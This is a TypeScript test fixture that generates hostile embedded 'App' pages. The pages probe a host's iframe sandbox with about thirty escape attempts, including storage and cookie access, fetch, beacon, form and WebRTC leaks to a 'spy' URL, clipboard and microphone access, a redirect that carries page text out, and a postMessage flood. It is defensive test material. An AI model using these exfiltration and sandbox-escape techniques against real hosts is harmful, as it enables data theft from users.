/** Pages of Apps that try what an App must not do. */

/** Everything that an App must not reach. Each attempt says how it ended. */
export const hostile = (
  spy: string,
  udpPort: number,
) => `<!doctype html><pre id="report"></pre><script>
const spy = ${JSON.stringify(spy)}
const attempts = {
  'parent document': () => parent.document.title,
  'parent storage': () => parent.localStorage.length,
  'parent frame element': () => frameElement.id,
  'top document': () => top.document.body.innerHTML,
  'top navigation': () => { top.location.href = spy + 'top' },
  'top replace': () => top.location.replace(spy + 'top'),
  'local storage': () => localStorage.setItem('a', 'b'),
  'session storage': () => sessionStorage.setItem('a', 'b'),
  'cookie': () => { document.cookie = 'a=b' },
  'database': () => new Promise((done, fail) => { const open = indexedDB.open('palimpsest'); open.onsuccess = done; open.onerror = () => fail(new Error('denied')) }),
  'cache': () => caches.open('a'),
  'service worker': () => navigator.serviceWorker.register('/service-worker.js'),
  'fetch': () => fetch(spy + 'fetch'),
  'fetch without cors': () => fetch(spy + 'no-cors', { mode: 'no-cors' }),
  'fetch of the page': () => fetch(new URL('./index.html', location.href)),
  'request': () => new Promise((done, fail) => { const x = new XMLHttpRequest(); x.onload = done; x.onerror = () => fail(new Error('denied')); x.open('GET', spy + 'xhr'); x.send() }),
  'socket': () => new Promise((done, fail) => { const s = new WebSocket(spy.replace('http', 'ws') + 'ws'); s.onopen = done; s.onerror = () => fail(new Error('denied')) }),
  'events': () => new Promise((done, fail) => { const s = new EventSource(spy + 'sse'); s.onopen = done; s.onerror = () => fail(new Error('denied')) }),
  'image': () => load('img', { src: spy + 'img' }),
  'script': () => load('script', { src: spy + 'script' }),
  'script of the page': () => load('script', { src: new URL('./service-worker.js', location.href).href }),
  'style': () => load('link', { rel: 'stylesheet', href: spy + 'style' }),
  'module': () => import(spy + 'module'),
  'worker': () => new Promise((done, fail) => { const w = new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))); w.onmessage = done; w.onerror = () => fail(new Error('denied')) }),
  'eval': () => eval('1'),
  'peer connection': () => peer(RTCPeerConnection),
  'prefixed peer connection': () => peer(webkitRTCPeerConnection),
  'peer connection of a blank frame': () => peer(document.body.appendChild(document.createElement('iframe')).contentWindow.RTCPeerConnection),
  'peer connection of the first frame': () => peer(window[0].RTCPeerConnection),
  'pop-up': () => { if (window.open(spy + 'popup') === null) throw new Error('denied') },
  'microphone': () => navigator.mediaDevices.getUserMedia({ audio: true }),
  'place': () => new Promise((done, fail) => navigator.geolocation.getCurrentPosition(done, fail)),
  'clipboard': () => navigator.clipboard.readText(),
  'dialog': () => { if (confirm('x') === false) throw new Error('denied') },
}
function peer(Peer) {
  const one = new Peer({ iceServers: [{ urls: STUN }] })
  one.createDataChannel('a')
  return one.createOffer().then(offer => one.setLocalDescription(offer))
}
const STUN = 'stun:127.0.0.1:${udpPort}'
function load(name, attributes) {
  return new Promise((done, fail) => {
    const element = Object.assign(document.createElement(name), attributes)
    element.onload = done
    element.onerror = () => fail(new Error('denied'))
    document.body.append(element)
  })
}
async function attempt() {
  const report = {}
  for (const [name, run] of Object.entries(attempts)) {
    try {
      await Promise.race([run(), new Promise((_, fail) => setTimeout(fail, 1000, new Error('no answer')))])
      report[name] = 'reached'
    } catch {
      report[name] = 'contained'
    }
  }
  // These give no answer; the spy tells.
  const code = 'const STUN = ' + JSON.stringify(STUN) + ';' + peer + ';peer(self.RTCPeerConnection || self.webkitRTCPeerConnection)'
  const script = '<script>' + code + '<' + '/script>'
  const frame = attributes => Object.assign(document.createElement('iframe'), attributes)
  document.body.append(frame({ srcdoc: script }), frame({ src: 'javascript:' + code }))
  document.body.insertAdjacentHTML('beforeend', '<div><iframe srcdoc="' + script.replaceAll('"', '&quot;') + '"></iframe></div><object data="javascript:' + encodeURIComponent(code) + '"></object>')
  document.body.appendChild(document.createElement('p')).attachShadow({ mode: 'closed' }).append(frame({ srcdoc: script }))
  navigator.sendBeacon(spy + 'beacon')
  document.body.insertAdjacentHTML('beforeend', '<form id="form" action="' + spy + 'form"><input name="a"></form><a id="ping" ping="' + spy + 'ping" href="#x">x</a><iframe src="' + spy + 'frame"></iframe><object data="' + spy + 'object"></object><video src="' + spy + 'video"></video><base href="' + spy + '">')
  document.getElementById('form').submit()
  document.getElementById('ping').click()
  document.head.insertAdjacentHTML('beforeend', '<link rel="prefetch" href="' + spy + 'prefetch"><link rel="preload" as="image" href="' + spy + 'preload">')
  document.getElementById('report').textContent = JSON.stringify(report)
}
attempt()
</script>`

/** Asks for something, then leaves its frame with what it knows. */
export const leaving = (spy: string) => `<p>here</p><script>
parent.postMessage({ jsonrpc: '2.0', id: 1, method: 'ui/message', params: { role: 'user', content: [{ type: 'text', text: 'from the App' }] } }, '*')
setTimeout(() => { location.href = ${JSON.stringify(spy)} + '?told=' + document.body.innerText }, 500)
</script>`

/** Shows what its server lists, and reads the first of it at a press. */
export const READER = `<!doctype html><button id="read">Read</button><pre id="told"></pre><script>
let last = 0
const ask = (method, params = {}) => new Promise(done => {
  const id = ++last
  const listen = ({ data }) => {
    if (data.id !== id) return
    removeEventListener('message', listen)
    done(data.result ?? data.error)
  }
  addEventListener('message', listen)
  parent.postMessage({ jsonrpc: '2.0', id, method, params }, '*')
})
const tell = what => { document.getElementById('told').textContent = JSON.stringify(what) }
ask('resources/list').then(({ resources }) => {
  tell(resources.map(({ uri }) => uri))
  document.getElementById('read').onclick = async () => tell(await ask('resources/read', { uri: 'test://ledger' }))
})
</script>`

export const FLOOD = `<script>
setInterval(() => {
  for (let count = 0; count < 2000; count += 1)
    parent.postMessage({ jsonrpc: '2.0', id: count, method: 'ui/message', params: { role: 'user', content: [{ type: 'text', text: 'x'.repeat(1000) }] } }, '*')
}, 1)
</script>`
